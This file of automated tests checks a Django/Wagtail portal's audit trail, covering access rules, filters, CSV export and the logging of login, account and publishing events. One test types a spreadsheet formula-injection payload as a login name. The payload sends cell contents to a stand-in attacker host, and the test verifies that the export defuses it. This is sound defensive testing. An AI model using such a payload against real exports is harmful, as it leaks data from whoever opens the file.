"""The portal's audit trail: who may read it, filters, CSV export, editorial events."""

from __future__ import annotations

import csv
import io

from django_tenants.utils import schema_context

from django.contrib.auth.models import Group

from accounts.models import AuditEvent
from tenants.models import PlatformRole
from tests.support.accounts import events, login
from tests.support.admin import refused

AUDIT_URL = "/admin/nhat-ky/"


def test_who_reads_the_audit_trail(province, portal_a, board_head, editor, make_platform_user):
    head, _ = login(portal_a, "truongban")
    assert head.get(AUDIT_URL).status_code == 200
    assert AUDIT_URL in head.get("/admin/").content.decode()  # the settings menu item

    editor_browser, _ = login(portal_a, "bientap")
    assert refused(editor_browser.get(AUDIT_URL))
    assert AUDIT_URL not in editor_browser.get("/admin/").content.decode()

    # A province board member looks at a member portal's trail (read-only oversight).
    make_platform_user("bbt.tinh", PlatformRole.Role.PROVINCE_BOARD)
    oversight, _ = login(portal_a, "bbt.tinh")
    page = oversight.get(AUDIT_URL).content.decode()
    assert "Đăng nhập từ tài khoản hệ thống" in page
    assert events(portal_a, "mapped_login", actor="bbt.tinh")


def test_filters_and_csv_export(portal_a, board_head, editor):
    login(portal_a, "bientap", "SaiMatKhau123", ip="10.7.7.7")
    login(portal_a, "bientap", ip="10.7.7.8")
    head, _ = login(portal_a, "truongban")

    page = head.get(AUDIT_URL, {"action": "login_failed"}).content.decode()
    assert "Đăng nhập sai" in page and "10.7.7.7" in page and "10.7.7.8" not in page
    page = head.get(AUDIT_URL, {"actor": "truongban", "action": "login"}).content.decode()
    assert "truongban" in page and "10.7.7.8" not in page
    page = head.get(AUDIT_URL, {"date_from": "01/01/2000", "date_to": "02/01/2000"}).content.decode()
    assert "Không có sự kiện nào" in page
    page = head.get(AUDIT_URL, {"date_from": "02/01/2000", "date_to": "01/01/2000"}).content.decode()
    assert "phải trước hoặc bằng" in page

    response = head.get(AUDIT_URL, {"export": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    body = response.content
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0] == ["Thời điểm", "Người thực hiện", "Hành động", "Đối tượng", "Địa chỉ IP", "Chi tiết"]
    actions = {(row[1], row[2]) for row in rows[1:]}
    assert ("bientap", "Đăng nhập sai") in actions
    assert ("bientap", "Đăng nhập") in actions
    assert ("truongban", "Đăng nhập") in actions

    response = head.get(AUDIT_URL, {"export": "csv", "action": "login_failed"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert {row[2] for row in rows[1:]} == {"Đăng nhập sai"}


def test_the_trail_records_every_account_event(portal_a, board_head, editor, make_platform_user):
    """Lockout, unlock, password change, user and role changes, mapped sign-in: one export."""
    for n in range(5):
        login(portal_a, "bientap", "SaiMatKhau123", ip=f"10.8.0.{n}")
    head, _ = login(portal_a, "truongban")
    lock_id = head.get("/admin/tai-khoan/khoa-dang-nhap/").context["in_force"][0].pk
    head.post(f"/admin/tai-khoan/khoa-dang-nhap/{lock_id}/mo-khoa/")
    browser, _ = login(portal_a, "bientap", ip="10.8.1.1")
    browser.post(
        "/admin/tai-khoan/doi-mat-khau/",
        {"old_password": "MatKhau@Thu2026", "new_password1": "DoiMatKhau2027x",
         "new_password2": "DoiMatKhau2027x"},
    )
    browser.post("/admin/logout/")
    make_platform_user("vanhanh", PlatformRole.Role.OPERATOR)
    login(portal_a, "vanhanh")

    rows = list(csv.reader(io.StringIO(head.get(AUDIT_URL, {"export": "csv"}).content.decode("utf-8-sig"))))
    labels = {row[2] for row in rows[1:]}
    for label in [
        "Đăng nhập", "Đăng nhập sai", "Tạm khoá đăng nhập", "Mở khoá đăng nhập", "Đổi mật khẩu",
        "Đăng xuất", "Tạo tài khoản", "Thay đổi vai trò", "Đăng nhập từ tài khoản hệ thống",
    ]:
        assert label in labels, label


def test_publishing_and_workflow_decisions_are_recorded(portal_a, board_head, editor):
    from wagtail.models import GroupApprovalTask, Page, Site, Workflow, WorkflowTask

    with schema_context(portal_a.schema_name):
        home = Site.objects.get(is_default_site=True).root_page.specific
        home.save_revision(user=board_head).publish(skip_permission_checks=True)
        assert AuditEvent.objects.filter(action="published", actor="truongban").exists()

        workflow = Workflow.objects.create(name="Thử duyệt")
        task = GroupApprovalTask.objects.create(name="Ban duyệt")
        task.groups.set(Group.objects.filter(name="Trưởng Ban Biên tập"))
        WorkflowTask.objects.create(workflow=workflow, task=task, sort_order=0)
        page = Page.objects.get(pk=home.pk).specific
        page.save_revision(user=editor)
        state = workflow.start(page, editor)
        assert AuditEvent.objects.filter(action="submitted", actor="bientap").exists()
        state.current_task_state.specific.task.specific.on_action(
            state.current_task_state, board_head, "reject", comment="thiếu nguồn"
        )
        rejected = AuditEvent.objects.get(action="rejected")
        assert rejected.actor == "truongban" and "thiếu nguồn" in rejected.detail

        state.cancel(user=editor)
        assert AuditEvent.objects.filter(action="workflow_cancelled", actor="bientap").exists()
        state = workflow.start(Page.objects.get(pk=home.pk).specific, editor)
        state.current_task_state.specific.task.specific.on_action(
            state.current_task_state, board_head, "approve"
        )
        assert AuditEvent.objects.filter(action="approved", actor="truongban").exists()
        AuditEvent.objects.filter(action="unpublished").delete()
        Page.objects.get(pk=home.pk).specific.unpublish(user=board_head)
        assert AuditEvent.objects.filter(action="unpublished").exists()


def test_a_formula_typed_as_a_user_name_arrives_in_the_csv_as_text(portal_a, board_head):
    typed = '=HYPERLINK("http://evil.example/?c="&B2,"Mở")'
    _browser, response = login(portal_a, typed, "SaiMatKhau123", ip="10.7.7.9")
    assert response.status_code == 200  # the sign-in form again, with its error
    assert events(portal_a, "login_failed", actor=typed)
    head, _ = login(portal_a, "truongban")
    response = head.get(AUDIT_URL, {"export": "csv", "action": "login_failed"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    failed = [row for row in rows[1:] if row[4] == "10.7.7.9"]
    assert failed and failed[0][1] == "'" + typed and failed[0][3] == "'" + typed
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
